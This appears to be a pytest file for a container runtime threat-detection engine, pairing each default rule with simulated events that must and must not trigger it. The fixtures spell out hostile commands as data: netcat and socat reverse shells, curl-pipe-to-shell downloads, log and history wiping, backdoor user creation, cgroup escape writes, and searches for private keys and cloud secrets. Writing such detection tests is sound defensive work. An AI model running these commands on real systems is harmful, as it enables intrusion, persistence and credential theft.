"""Every default runtime rule: sensor events that must fire it and events that must not."""

from __future__ import annotations

import os
from collections.abc import Callable

import pytest

from garrison.content import default_runtime_rule_files
from garrison.events.runtime import RuntimeEvent
from garrison.rules import Engine
from garrison.rules.loader import load_files
from garrison.rules.syscall_fields import SyscallSource
from garrison.runtime.analyzer import build_engine
from tests.runtime_events import connect, dup_socket, event, open_file, spawn, syscall

# the sensor learns the API server's address from KUBERNETES_SERVICE_HOST; here it is given
SOURCE = SyscallSource(known_names={"10.96.0.1": "kubernetes.default.svc.cluster.local"})
_ENGINE, _REPORT = Engine.build(load_files(default_runtime_rule_files()).ruleset, SOURCE)
assert not _REPORT.errors, _REPORT.errors
ENGINE: Engine = _ENGINE
EventFactory = Callable[[], RuntimeEvent]
WRITE = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
CAP_SYS_MODULE = 1 << 16
SA = "/var/run/secrets/kubernetes.io/serviceaccount"

FIRES: dict[str, list[EventFactory]] = {
    "runtime_reverse_shell": [
        lambda: dup_socket("203.0.113.7", 4444, 0, comm="bash"),
        lambda: dup_socket("2001:db8::7", 443, 2, comm="python3", container_id="host"),
        lambda: dup_socket("203.0.113.7", 4444, 1, comm="sh", outbound=False),  # connected early
    ],
    "runtime_netcat_exec": [
        lambda: spawn("/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444"),
        lambda: spawn("/usr/bin/ncat", "--sh-exec", "bash", "203.0.113.7", "80"),
        lambda: spawn("/usr/bin/socat", "tcp:203.0.113.7:80", "exec:/bin/sh"),
    ],
    "runtime_web_shell": [
        lambda: spawn("/bin/sh", "-c", "id", ancestry=["php-fpm8.2", "php-fpm8.2"]),
        lambda: spawn("/bin/bash", "-c", "ls", ancestry=["nginx", "containerd-shim"]),
        lambda: spawn("/bin/sh", "-c", "whoami", ancestry=["sh", "java"]),
    ],
    "runtime_drift": [lambda: spawn("/tmp/xmr", exe_upper_layer=True)],
    "runtime_fileless_memfd": [
        lambda: spawn("/proc/self/fd/3", exe="memfd:payload (deleted)", exe_from_memfd=True),
    ],
    "runtime_download_run": [
        lambda: spawn("/bin/sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"),
        lambda: spawn(
            "/bin/bash", "-c", "wget -q http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"
        ),
    ],
    "runtime_download_exec_path": [
        lambda: spawn("/usr/bin/curl", "-o", "/tmp/kdevtmpfsi", "http://203.0.113.7/k"),
        lambda: spawn("/usr/bin/wget", "-O/usr/local/bin/x", "http://203.0.113.7/x"),
    ],
    "runtime_write_binary_dir": [
        lambda: open_file("/usr/bin/ps", WRITE, comm="cp", exe="/bin/cp"),
        lambda: open_file("/bin/evil", WRITE, comm="sh"),
    ],
    "runtime_crypto_miner": [
        lambda: spawn("/tmp/xmrig", "-o", "pool.example:3333"),
        lambda: spawn("/usr/local/bin/svc", "-o", "stratum+tcp://pool.example:4444", "-u", "x"),
        lambda: spawn("/opt/app/run", "--donate-level", "1"),
    ],
    "runtime_mining_pool": [lambda: connect("198.51.100.9", 14444, comm="svc")],
    "runtime_ld_preload": [
        lambda: open_file("/etc/ld.so.preload", os.O_WRONLY | os.O_CREAT, comm="touch"),
    ],
    "runtime_msr_tuning": [lambda: spawn("/sbin/modprobe", "msr", "allow_writes=on")],
    "runtime_imds_access": [
        lambda: connect("169.254.169.254", 80, comm="curl"),
        lambda: spawn("/usr/bin/curl", "-H", "Metadata:true", "http://169.254.169.254/metadata"),
    ],
    "runtime_k8s_api_from_container": [
        lambda: spawn("/usr/bin/curl", "-k", "https://kubernetes.default/api"),
        lambda: connect("10.96.0.1", 443, comm="curl"),
    ],
    "runtime_kubelet_kubeconfig": [
        lambda: open_file("/var/lib/kubelet/kubeconfig", container_id="host"),
        lambda: open_file("/var/lib/kubelet/pki/kubelet-client-current.pem", comm="tar"),
    ],
    "runtime_sa_token_read": [
        lambda: open_file(f"{SA}/token"),
        lambda: open_file("/var/run/secrets/eks.amazonaws.com/serviceaccount/token", comm="curl"),
    ],
    "runtime_shadow_read": [
        lambda: open_file("/etc/shadow"),
        lambda: open_file("/etc/gshadow", comm="python3"),
    ],
    "runtime_history_cleared": [
        lambda: spawn("/bin/rm", "-f", "/root/.bash_history"),
        lambda: spawn("/bin/sh", "-c", "cat /dev/null > ~/.bash_history"),
        lambda: open_file("/root/.ash_history", WRITE, comm="sh"),
        lambda: event("unlink", comm="python3", path="/home/dev/.bash_history"),
        lambda: event("rename", comm="mv", path="/root/.zsh_history", new_path="/tmp/x"),
    ],
    "runtime_log_tampering": [
        lambda: open_file("/var/log/auth.log", WRITE, comm="sh"),
        lambda: spawn("/usr/bin/shred", "-u", "/var/log/syslog"),
        lambda: spawn("/bin/journalctl", "--vacuum-time=1s"),
        lambda: event("unlink", comm="python3", path="/var/log/auth.log"),
    ],
    "runtime_timestamp_tampering": [
        lambda: spawn("/usr/bin/touch", "-r", "/bin/ls", "/tmp/x"),
        lambda: spawn("/usr/bin/touch", "-d", "2020-01-01", "/usr/bin/x"),
        lambda: spawn("/usr/bin/touch", "-amt", "202001010000", "/usr/bin/x"),
        lambda: event("utimes", comm="python3", path="/usr/local/bin/implant"),
    ],
    "runtime_security_process_killed": [
        lambda: spawn("/usr/bin/pkill", "-9", "falco"),
        lambda: spawn("/bin/systemctl", "stop", "auditd"),
        lambda: spawn("/bin/systemctl", "disable", "--now", "apt-daily-upgrade.timer"),
    ],
    "runtime_nohup_abuse": [
        lambda: spawn("/usr/bin/nohup", "/tmp/.x/run"),
        lambda: spawn("/usr/bin/nohup", "./miner"),
    ],
    "runtime_base64_shell": [
        lambda: spawn("/bin/sh", "-c", "echo aWQK | base64 -d | sh"),
        lambda: spawn("/bin/bash", "-c", "echo cHJpbnQoMSkK | base64 --decode | python3"),
    ],
    "runtime_user_added": [
        lambda: spawn("/usr/sbin/useradd", "-m", "backdoor"),
        lambda: spawn("/bin/adduser", "-D", "x"),
    ],
    "runtime_password_change": [
        lambda: spawn("/usr/sbin/chpasswd", "-e"),
        lambda: spawn("/usr/sbin/usermod", "-p", "$6$abc$def", "root"),
        lambda: spawn("/usr/bin/openssl", "passwd", "-6", "secret"),
    ],
    "runtime_authorized_keys": [
        lambda: open_file("/root/.ssh/authorized_keys", os.O_WRONLY | os.O_APPEND, comm="sh"),
    ],
    "runtime_sudoers_cron_changed": [
        lambda: open_file("/etc/sudoers.d/90-x", WRITE, comm="sh"),
        lambda: open_file("/etc/crontab", os.O_WRONLY | os.O_APPEND, comm="sh"),
    ],
    "runtime_setuid_bit": [
        lambda: event("chmod", comm="chmod", path="/tmp/rootshell", mode=0o4755),
        lambda: event("chmod", comm="python3", path="/home/x/bin", mode=0o2755),
    ],
    "runtime_chmod_exec": [lambda: event("chmod", comm="chmod", path="/tmp/xmrig", mode=0o755)],
    "runtime_ssh_server_in_container": [lambda: spawn("/usr/sbin/sshd", "-D")],
    "runtime_namespace_from_container": [
        lambda: syscall("unshare", 0x10020000, comm="unshare"),
        lambda: syscall("setns", 3, 0, comm="nsenter"),
    ],
    "runtime_privileged_exec": [lambda: spawn("/bin/sh", privileged=True, tty=34816)],
    "runtime_kernel_module": [
        lambda: syscall("finit_module", 3, 0, 0, comm="insmod", cap_effective=CAP_SYS_MODULE),
        lambda: spawn("/sbin/insmod", "rootkit.ko"),
    ],
    "runtime_release_agent_escape": [
        lambda: open_file("/sys/fs/cgroup/rdma/release_agent", WRITE, comm="sh"),
        lambda: spawn("/bin/sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"),
        lambda: open_file("/proc/sys/kernel/core_pattern", WRITE, comm="sh"),
    ],
    "runtime_ptrace_injection": [
        lambda: syscall("ptrace", 16, 1234, comm="inject"),
        lambda: syscall("ptrace", 4, 1234, 0, comm="python3"),
    ],
    "runtime_packet_socket": [lambda: syscall("socket", 17, 3, 768, comm="tcpdump")],
    "runtime_network_scanner": [
        lambda: spawn("/usr/bin/nmap", "-Pn", "--open", "10.0.0.0/24", "-p", "443"),
        lambda: spawn("/usr/bin/masscan", "10.0.0.0/8", "-p80"),
    ],
    "runtime_attack_tool": [
        lambda: spawn("/tmp/peirates"),
        lambda: spawn("/usr/local/bin/chisel", "client", "203.0.113.7:8080", "R:socks"),
    ],
    "runtime_credential_tool": [lambda: spawn("/tmp/mimipenguin.sh", comm="mimipenguin.sh")],
    "runtime_secret_search": [
        lambda: spawn("/bin/grep", "-r", "BEGIN RSA PRIVATE", "/"),
        lambda: spawn("/usr/bin/find", "/", "-name", "id_rsa"),
        lambda: spawn("/bin/grep", "-i", "AWS_SECRET_ACCESS_KEY", "/proc/1/environ"),
    ],
}

MUST_NOT_FIRE: dict[str, list[EventFactory]] = {
    "runtime_reverse_shell": [
        lambda: event("dup_socket", fd=3, newfd=0, res=0, sock_type=1),  # a unix socket
        # a server handing an accepted connection to its handler (busybox httpd, inetd)
        lambda: dup_socket("198.51.100.4", 51234, 0, comm="httpd", outbound=False),
        lambda: open_file("/etc/shadow"),
    ],
    "runtime_netcat_exec": [
        lambda: spawn("/bin/nc", "-z", "db", "5432"),
        lambda: spawn("/usr/bin/socat", "tcp-listen:80", "tcp:backend:8080"),
    ],
    "runtime_web_shell": [
        lambda: spawn("/bin/sh", "-c", "id", ancestry=["bash", "sshd"]),
        lambda: spawn("/usr/bin/php", "artisan", ancestry=["nginx"]),  # not a shell
    ],
    "runtime_drift": [
        lambda: spawn("/usr/bin/python3", "app.py"),
        lambda: spawn("/tmp/x", exe_upper_layer=True, container_id="host"),
    ],
    "runtime_fileless_memfd": [
        lambda: spawn(
            "/proc/self/fd/5", comm="runc", exe_from_memfd=True, container_id="host"
        ),  # runc re-executes itself from a memfd
        lambda: spawn("/bin/ls"),
    ],
    "runtime_download_run": [
        lambda: spawn("/bin/sh", "-c", "curl -fsS http://localhost:8080/healthz"),
        lambda: spawn("/bin/sh", "-c", "ls | sort"),
    ],
    "runtime_download_exec_path": [
        lambda: spawn("/usr/bin/curl", "-o", "/app/data.json", "http://svc/data"),
        lambda: spawn("/usr/bin/wget", "http://svc/x"),
    ],
    "runtime_write_binary_dir": [
        lambda: open_file("/usr/bin/ps"),  # read
        lambda: open_file("/usr/bin/jq", WRITE, comm="dpkg"),  # a package manager
        lambda: open_file("/usr/bin/ps", WRITE, comm="cp", container_id="host"),
    ],
    "runtime_crypto_miner": [
        lambda: spawn("/usr/bin/python3", "-m", "http.server"),
        lambda: spawn("/bin/echo", "stratum"),
    ],
    "runtime_mining_pool": [
        lambda: connect("10.0.0.9", 3333, comm="app"),  # private
        lambda: connect("198.51.100.9", 443, comm="app"),
        lambda: connect("127.0.0.1", 3333, comm="app"),
    ],
    "runtime_ld_preload": [lambda: open_file("/etc/ld.so.preload")],  # the loader reading it
    "runtime_msr_tuning": [lambda: spawn("/sbin/modprobe", "overlay")],
    "runtime_imds_access": [
        lambda: connect("169.254.169.254", 80, comm="aws-node", container_id="host"),
        lambda: connect("10.0.0.10", 80, comm="curl"),
    ],
    "runtime_k8s_api_from_container": [
        lambda: connect("10.96.0.1", 443, comm="controller", ancestry=["containerd-shim"]),
        lambda: connect("10.96.0.1", 443, comm="curl", container_id="host"),
        lambda: spawn("/usr/bin/curl", "https://example.com"),
    ],
    "runtime_kubelet_kubeconfig": [
        lambda: open_file("/var/lib/kubelet/kubeconfig", comm="kubelet", container_id="host"),
        lambda: open_file("/var/lib/kubelet/pods/x/volumes/y", comm="cat"),
    ],
    "runtime_sa_token_read": [
        lambda: open_file(f"{SA}/token", comm="app", exe="/app/server"),
        lambda: open_file(f"{SA}/ca.crt"),
    ],
    "runtime_shadow_read": [
        lambda: open_file("/etc/shadow", comm="passwd"),
        lambda: open_file("/etc/shadow", fd=-1, res=-13),  # refused: not read
    ],
    "runtime_history_cleared": [
        lambda: spawn("/bin/rm", "-f", "/tmp/cache"),
        lambda: open_file("/root/.bash_history", os.O_WRONLY | os.O_APPEND, comm="bash"),
    ],
    "runtime_log_tampering": [
        lambda: open_file("/var/log/app.log", os.O_WRONLY | os.O_APPEND, comm="app"),
        lambda: spawn("/bin/rm", "/tmp/x.log"),
    ],
    "runtime_timestamp_tampering": [
        lambda: spawn("/usr/bin/touch", "/tmp/ready"),
        lambda: event("utimes", comm="tar", path="/usr/bin/tool"),  # archives restore times
        lambda: event("utimes", comm="python3", path="/srv/copy", container_id="host"),
    ],
    "runtime_security_process_killed": [
        lambda: spawn("/usr/bin/pkill", "-HUP", "nginx"),
        lambda: spawn("/bin/systemctl", "restart", "nginx"),
    ],
    "runtime_nohup_abuse": [lambda: spawn("/usr/bin/nohup", "/usr/bin/python3", "app.py")],
    "runtime_base64_shell": [lambda: spawn("/bin/sh", "-c", "echo aWQK | base64 -d > /tmp/x")],
    "runtime_user_added": [lambda: spawn("/usr/bin/id", "-u")],
    "runtime_password_change": [
        lambda: spawn("/usr/sbin/usermod", "-aG", "docker", "dev"),
        lambda: spawn("/usr/bin/openssl", "x509", "-in", "c.pem"),
    ],
    "runtime_authorized_keys": [lambda: open_file("/root/.ssh/authorized_keys", comm="sshd")],
    "runtime_sudoers_cron_changed": [
        lambda: open_file("/etc/sudoers", comm="sudo"),  # read
        lambda: open_file("/etc/hosts", WRITE, comm="sh"),
    ],
    "runtime_setuid_bit": [
        lambda: event("chmod", comm="chmod", path="/tmp/x", mode=0o755),
        lambda: event("chmod", comm="dpkg", path="/usr/bin/passwd", mode=0o4755),
    ],
    "runtime_chmod_exec": [
        lambda: event("chmod", comm="chmod", path="/tmp/x", mode=0o644),
        lambda: event("chmod", comm="chmod", path="/tmp/x", mode=0o755, container_id="host"),
        lambda: event("chmod", comm="runc:[2:INIT]", path="/dev", mode=0o755),  # setting up
    ],
    "runtime_ssh_server_in_container": [lambda: spawn("/usr/sbin/sshd", "-D", container_id="host")],
    "runtime_namespace_from_container": [
        lambda: syscall("unshare", 0x10020000, comm="unshare", container_id="host"),
        lambda: syscall("unshare", 0x20000, comm="runc:[2:INIT]"),
    ],
    "runtime_privileged_exec": [
        lambda: spawn("/bin/sh", privileged=True, tty=0),
        lambda: spawn("/bin/sh", privileged=False, tty=34816),
    ],
    "runtime_kernel_module": [lambda: spawn("/sbin/modprobe", "overlay", container_id="host")],
    "runtime_release_agent_escape": [
        lambda: open_file("/sys/fs/cgroup/memory/memory.max", WRITE, comm="runc"),
        lambda: spawn("/bin/sh", "-c", "echo hi"),
    ],
    "runtime_ptrace_injection": [
        lambda: syscall("ptrace", 0, comm="app"),  # TRACEME
        lambda: syscall("ptrace", 16, 1234, comm="gdb"),
    ],
    "runtime_packet_socket": [lambda: syscall("socket", 17, 3, 768, container_id="host")],
    "runtime_network_scanner": [lambda: spawn("/usr/bin/curl", "http://svc")],
    "runtime_attack_tool": [lambda: spawn("/usr/bin/python3", "app.py")],
    "runtime_credential_tool": [lambda: spawn("/usr/bin/john-the-baker")],
    "runtime_secret_search": [
        lambda: spawn("/bin/grep", "-r", "TODO", "/src"),
        lambda: spawn("/usr/bin/find", "/tmp", "-mtime", "+7"),
    ],
}


def rule_ids(event: RuntimeEvent) -> set[str]:
    return {m.rule.id for m in ENGINE.evaluate(event)}


@pytest.mark.parametrize(
    ("rule_id", "make"),
    [(r, f) for r, fs in FIRES.items() for f in fs],
    ids=[f"{r}-{i}" for r, fs in FIRES.items() for i in range(len(fs))],
)
def test_fires(rule_id: str, make: EventFactory) -> None:
    assert rule_id in rule_ids(make())


@pytest.mark.parametrize(
    ("rule_id", "make"),
    [(r, f) for r, fs in MUST_NOT_FIRE.items() for f in fs],
    ids=[f"{r}-{i}" for r, fs in MUST_NOT_FIRE.items() for i in range(len(fs))],
)
def test_must_not_fire(rule_id: str, make: EventFactory) -> None:
    assert rule_id not in rule_ids(make())


def test_the_pack_builds_through_the_analyzer() -> None:
    engine, report = build_engine([], default_rules=True)
    assert not report.errors and len(engine.rules) == len(FIRES)


def test_every_default_rule_is_tested_both_ways_and_documented() -> None:
    ids = {rule.id for rule in ENGINE.rules}
    assert ids == set(FIRES) == set(MUST_NOT_FIRE)
    for rule in ENGINE.rules:
        assert rule.desc and rule.remediation, rule.id
        assert rule.mitre.techniques and rule.mitre.tactics, rule.id
